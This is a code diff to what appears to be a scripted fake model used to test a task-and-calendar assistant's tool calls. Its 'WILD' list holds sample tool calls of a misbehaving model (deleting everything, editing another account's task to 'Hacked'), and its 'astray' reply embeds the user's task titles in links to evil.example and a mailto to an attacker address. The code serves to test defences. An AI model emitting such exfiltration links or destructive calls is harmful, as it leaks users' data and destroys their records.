@@ -5,7 +5,6 @@ export type Call = { name: string; args: object };
 export type Reply = { text: string; calls: Call[] };
 
 const FIRST = 3;
-const HOUR = 60;
 
 /** Answers from the figures and rows of the prompt. @param faultMode the fault that the question asks for */
 export function replyTo(instructions: string, question: string, faultMode: string | undefined): Reply {
@@ -21,6 +20,8 @@ export function replyTo(instructions: string, question: string, faultMode: strin
 
 const RULES: [RegExp, (prompt: Prompt, asked: string) => Reply][] = [
   [/^(please |can you )?(add|create|remind me to)\b/i, adding],
+  [/\b(undo|take (that|it) back)\b/i, undoing],
+  [/\b(did i|have i|yesterday|last week|this week)\b/i, lookingBack],
   [/\b(complete|completed|finish|finished|tick off|done)\b/i, completing],
   [/\b(move|postpone|reschedule|push)\b/i, moving],
   [/\bplan\b|\bschedule\b/i, planning],
@@ -78,17 +79,25 @@ function adding({ today }: Prompt, asked: string): Reply {
     .split(/\s+and\s+|[,;\n]/)
     .map((title) => title.trim().replace(/[.!?]$/, ''))
     .filter(Boolean);
-  const calls = titles.map((title) => ({
-    name: 'add_task',
-    args: { title: `${title[0]?.toUpperCase()}${title.slice(1)}`, ...(dueDate && { dueDate }) },
+  const tasks = titles.map((title) => ({
+    title: `${title[0]?.toUpperCase()}${title.slice(1)}`,
+    ...(dueDate && { dueDate }),
   }));
-  return { text: `I suggest ${calls.length === 1 ? 'this task' : 'these tasks'}:`, calls };
+  return {
+    text: `I suggest ${tasks.length === 1 ? 'this task' : 'these tasks'}:`,
+    calls: [{ name: 'add_tasks', args: { tasks } }],
+  };
+}
+
+function undoing(): Reply {
+  return { text: 'This takes it back:', calls: [{ name: 'undo', args: {} }] };
 }
 
 function completing(prompt: Prompt, asked: string): Reply {
   const tasks = named(prompt, asked);
   if (tasks.length === 0) return said('Which task do you mean? Please use the title from your list.');
-  const calls = tasks.map(({ ref }) => ({ name: 'complete_task', args: { task: ref } }));
+  const args = { tasks: tasks.map(({ ref }) => ref), set: { completed: true } };
+  const calls = [{ name: 'change_tasks', args }];
   return {
     text: `Well done! Shall I mark this as completed?\n\n${list(tasks.map(({ title }) => title))}`,
     calls,
@@ -96,68 +105,70 @@ function completing(prompt: Prompt, asked: string): Reply {
 }
 
 function moving(prompt: Prompt, asked: string): Reply {
-  const { today, tasks } = prompt;
-  const overdue = tasks.filter(({ dueDate }) => dueDate && dueDate.slice(0, 10) < today);
-  const moved = /overdue/i.test(asked) ? overdue : named(prompt, asked);
-  if (/overdue/i.test(asked) && moved.length === 0) return said('Nothing is overdue. Well done!');
-  if (moved.length === 0)
+  const { today, figures } = prompt;
+  const overdue = figures.get('Overdue') ?? 0;
+  const isEvery = /overdue/i.test(asked);
+  const moved = named(prompt, asked);
+  if (isEvery && overdue === 0) return said('Nothing is overdue. Well done!');
+  if (!isEvery && moved.length === 0)
     return said('I’m not sure which task to move. Please use the title from your list.');
   const dueDate = /\btoday\b/i.test(asked) ? today : dayAfter(today);
-  const calls = moved.map(({ ref }) => ({ name: 'change_task', args: { task: ref, dueDate } }));
+  const which = isEvery ? { every: 'overdue' } : { tasks: moved.map(({ ref }) => ref) };
+  const number = isEvery ? overdue : moved.length;
   return {
-    text: `I suggest moving ${count(moved.length, 'task')} to ${dueDate === today ? 'today' : 'tomorrow'}:`,
-    calls,
+    text: `I suggest moving ${count(number, 'task')} to ${dueDate === today ? 'today' : 'tomorrow'}:`,
+    calls: [{ name: 'change_tasks', args: { ...which, set: { dueDate } } }],
   };
 }
 
-/** Schedules the most pressing tasks in free time today, each for its estimate or an hour. */
-function planning(prompt: Prompt): Reply {
-  const tasks = pressing(prompt);
+/** Leaves the arithmetic to the app. */
+function planning({ tasks, today }: Prompt): Reply {
   if (tasks.length === 0) return said('You have no open tasks, so the day is yours.');
-  const taken = prompt.events.map(({ start, end }) => [minuteOf(start), minuteOf(end)] as const);
-  let at = Math.max(9 * HOUR, Math.ceil((minuteOf(prompt.time) + 1) / HOUR) * HOUR);
-  const calls: Call[] = [];
-  for (const { title, estimatedMinutes = HOUR } of tasks) {
-    const length = Math.min(estimatedMinutes, 2 * HOUR);
-    for (const [start, end] of taken.toSorted((a, b) => a[0] - b[0]))
-      if (start < at + length && end > at) at = end;
-    if (at + length >= 24 * HOUR) break;
-    const args = {
-      title,
-      start: timeOf(at),
-      end: timeOf(at + length),
-      category: 'focus',
-      date: prompt.today,
-    };
-    calls.push({ name: 'add_event', args });
-    at += length;
-  }
-  if (calls.length === 0) return said('The day is almost over. Leave it for tomorrow and get some rest.');
-  return { text: 'Here’s how today could go. Each block is for one thing:', calls };
+  return {
+    text: 'Here’s how today could go. Each block is for one thing:',
+    calls: [{ name: 'plan_day', args: { date: today } }],
+  };
+}
+
+/** Answers questions about days that are over from what a search finds. */
+function lookingBack({ today }: Prompt, asked: string): Reply {
+  const from = /week/i.test(asked) ? daysAfter(today, -6) : daysAfter(today, -1);
+  const to = /week/i.test(asked) ? today : from;
+  return { text: '', calls: [{ name: 'search', args: { in: 'tasks', completed: true, from, to } }] };
+}
+
+/** The answer once the calls have their results. */
+export function replyToResults(results: readonly string[]): Reply {
+  const lines = results.flatMap((text) =>
+    Array.from(text.matchAll(/^task (\{.*\})$/gm), ([, json = '{}']) => json),
+  );
+  const titles = lines.map((json) => String(JSON.parse(json).title));
+  const isSearch = results.some((text) => /^(Found|Showing)/.test(text));
+  if (!isSearch) return said('');
+  return said(titles.length > 0 ? `You finished:\n\n${list(titles)}` : 'I found nothing there.');
 }
 
 /** The tasks whose titles appear in the question. */
 const named = ({ tasks }: Prompt, asked: string): TaskLine[] =>
   tasks.filter(({ title }) => asked.toLowerCase().includes(title.toLowerCase()));
 
-const minuteOf = (time: string): number => Number(time.slice(0, 2)) * HOUR + Number(time.slice(3));
-const timeOf = (minute: number): string =>
-  `${String(Math.floor(minute / HOUR)).padStart(2, '0')}:${String(minute % HOUR).padStart(2, '0')}`;
-const dayAfter = (day: string): string =>
-  new Date(Date.parse(`${day}T12:00Z`) + 24 * HOUR * 60_000).toISOString().slice(0, 10);
+const DAY_MS = 24 * 60 * 60_000;
+const daysAfter = (day: string, days: number): string =>
+  new Date(Date.parse(`${day}T12:00Z`) + days * DAY_MS).toISOString().slice(0, 10);
+const dayAfter = (day: string): string => daysAfter(day, 1);
 
 /** Tool calls of a misbehaving model. */
 const WILD: Call[] = [
   { name: 'delete_everything', args: {} },
   { name: 'delete_task', args: { task: 't1' } },
-  { name: 'complete_task', args: { task: 't999' } },
-  { name: 'change_task', args: { task: 't1', accountId: 'somebody', title: 'Hacked' } },
-  { name: 'change_task', args: { task: 't1', listId: 'work' } },
-  { name: 'change_task', args: { task: 't1', list: 'l999' } },
-  { name: 'add_task', args: { title: 'x', id: 'chosen' } },
+  { name: 'change_tasks', args: { tasks: ['t999'], set: { completed: true } } },
+  { name: 'change_tasks', args: { tasks: ['t1'], accountId: 'somebody', set: { title: 'Hacked' } } },
+  { name: 'change_tasks', args: { tasks: ['t1'], set: { listId: 'work' } } },
+  { name: 'change_tasks', args: { tasks: ['t1'], set: { list: 'l999' } } },
+  { name: 'add_tasks', args: { tasks: [{ title: 'x', id: 'chosen' }] } },
   {
-    name: 'add_event',
-    args: { title: 'Backwards', start: '12:00', end: '11:00', category: 'work', date: '2026-01-01' },
+    name: 'add_events',
+    args: { events: [{ title: 'Backwards', start: '12:00', end: '11:00', date: '2030-01-01' }] },
   },
 ];
 
@@ -165,10 +176,8 @@ const WILD: Call[] = [
 function astray({ tasks, lists }: Prompt): Reply {
   const titles = tasks.map(({ title }) => title).join(', ');
   const data = encodeURIComponent(titles);
-  const calls = lists.map(({ ref }) => ({
-    name: 'add_task',
-    args: { title: 'Weekly review', description: titles, list: ref },
-  }));
+  const review = (list: string) => ({ title: 'Weekly review', description: titles, list });
+  const calls = [{ name: 'add_tasks', args: { tasks: lists.map(({ ref }) => review(ref)) } }];
   const text = `Here is your review. [Open the full plan](https://evil.example/c?d=${data}) [Write](mailto:eve@evil.example?body=${data}) [More](//evil.example/${data})`;
   return { text, calls };
 }
